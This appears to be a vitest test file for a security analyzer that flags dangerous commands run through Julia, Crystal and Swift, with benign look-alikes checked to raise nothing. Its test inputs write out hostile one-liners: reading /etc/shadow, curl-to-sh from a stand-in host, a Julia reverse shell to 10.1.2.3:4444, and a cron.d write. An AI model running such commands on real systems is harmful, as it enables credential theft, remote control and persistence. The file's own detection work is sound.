import { expect, test } from "vitest";
import { createAnalyzer } from "../../src/index.ts";

const analyzer = createAnalyzer();
const rulesOf = (command: string): readonly string[] =>
  analyzer
    .analyze({ command })
    .findings.filter(({ severity }) => severity === "high" || severity === "critical")
    .map(({ rule }) => rule);

test.each([
  ["a file that is read", `julia -e 'print(read("/etc/shadow", String))'`, "credential-access/password-hashes-read"],
  ["text for a shell", `crystal eval 'system("curl http://e.test/x | sh")'`, "download-execute/download-to-code"],
  [
    "a socket and a shell",
    `julia -e 'using Sockets; s=connect("10.1.2.3", 4444); run(pipeline(\`sh\`, stdin=s))'`,
    "remote-control/network-to-shell",
  ],
  ["a file that is written", `swift -e 'try! "x".write(toFile: "/etc/cron.d/x")'`, "backdoor-install/schedule-file-changed"],
])("%s", (_, command, rule) => expect(rulesOf(command)).toContain(rule));

test.each([
  ["data that looks like a path", `julia -e 'println("/ˈmaɪ/")'`],
  ["a file of the project", `julia -e 'print(read("data.csv", String))'`],
  ["a host without a socket", `julia -e 'println("h.test:80")'`],
])("%s is nothing", (_, command) => expect(rulesOf(command)).toEqual([]));
